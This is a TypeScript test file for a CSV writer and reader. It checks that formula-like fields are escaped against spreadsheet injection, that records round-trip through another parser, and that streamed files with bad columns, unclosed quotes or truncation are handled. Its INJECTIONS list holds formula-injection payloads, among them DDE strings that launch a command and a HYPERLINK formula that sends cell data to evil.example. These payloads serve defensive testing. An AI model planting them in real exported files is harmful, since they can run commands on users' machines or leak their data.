import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import t from 'tap'
import { csvRecord, guarded, unguarded } from '../../src/control/csv.ts'
import { openCsv } from '../../src/control/csv-reading.ts'

/** What spreadsheets have been made to run, and what ASVS 1.2.10 lists. */
const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\0=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  '',
  'plain',
  '07700',
  'a "quoted", field\r\nover lines',
]

t.test('what a spreadsheet would run gets an apostrophe in front', async (t) => {
  for (const text of INJECTIONS) t.notMatch(guarded(text), /^[=+\-@\t\0\r\n]/, JSON.stringify(text))
  t.equal(guarded('plain'), 'plain')
  t.equal(csvRecord([-5, 7]), '-5,7\r\n', 'numbers stay numbers')
})

t.test('a record read back by another parser has the fields that were written', async (t) => {
  const [fields] = parse(csvRecord(INJECTIONS), { relax_column_count: true }) as string[][]
  t.same(fields?.map(unguarded), INJECTIONS)
})

t.test('any fields make the round trip', async () => {
  const field = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\0', '\r', '\n', "'", '"', ',', 'a', '€'),
  })
  fc.assert(
    fc.property(fc.array(field, { minLength: 2, maxLength: 6 }), (fields) => {
      const [read] = parse(csvRecord(fields), { relax_column_count: true }) as string[][]
      return read?.every((text, index) => unguarded(text) === fields[index]) && read.length === fields.length
    }),
    { numRuns: 2_000 },
  )
})

async function* inPieces(text: string, size: number): AsyncGenerator<Uint8Array> {
  const bytes = Buffer.from(text)
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size)
}

async function rowsOf(text: string, size = 7) {
  const file = await openCsv(inPieces(text, size), ['a', 'b'])
  if (!file.ok) return file.problem
  const rows = []
  for await (const row of file.rows) rows.push(row)
  return rows
}

t.test('a file is read in any order of columns, with byte order mark, quotes and blank lines', async (t) => {
  const text = '\uFEFFb,a\r\n"x, ""y""",1\r\n\r\nz,2\n'
  for (const size of [1, 3, 1_000])
    t.match(await rowsOf(text, size), [
      { fields: { a: '1', b: 'x, "y"' } },
      { line: 4, fields: { a: '2', b: 'z' } },
    ])
})

t.test('an unknown or doubled column and an empty file are refused whole', async (t) => {
  t.match(await rowsOf('a,c\r\n1,2\r\n'), {
    code: 'body-invalid',
    invalid: [{ where: 'body.c', text: /There are: a, b/ }],
  })
  t.match(await rowsOf('a,a\r\n1,2\r\n'), { code: 'body-invalid' })
  t.match(await rowsOf(''), { code: 'body-invalid' })
})

t.test('a quote that is never closed ends the reading; what was read before stands', async (t) => {
  t.match(await rowsOf('a,b\r\n3,"never closed\r\n'), { code: 'body-unreadable' })
  const many = Array.from({ length: 200 }, (_, index) => `${index},x\r\n`).join('')
  const rows = await rowsOf(`a,b\r\n${many}3,"never closed\r\n`, 64)
  if (!Array.isArray(rows)) throw new Error('nothing was read')
  t.match(rows.at(-1), { line: rows.length + 1, stopped: { code: 'body-unreadable' } })
  t.match(
    rows.slice(0, -1),
    rows.slice(0, -1).map((_, index) => ({ fields: { a: String(index) } })),
  )
})

t.test('a file that breaks off is read up to its last whole row', async (t) => {
  async function* cut(): AsyncGenerator<Uint8Array> {
    yield Buffer.from('a,b\r\n1,2\r\n3,4\r\n5,6 and mo')
    throw new Error('cut')
  }
  const file = await openCsv(cut(), ['a', 'b'])
  if (!file.ok) throw new Error('nothing was read')
  const rows = []
  for await (const row of file.rows) rows.push(row)
  t.match(rows, [
    { fields: { a: '1' } },
    { fields: { a: '3' } },
    { line: 4, stopped: { code: 'body-unreadable' } },
  ])
  t.equal(rows.length, 3)
})
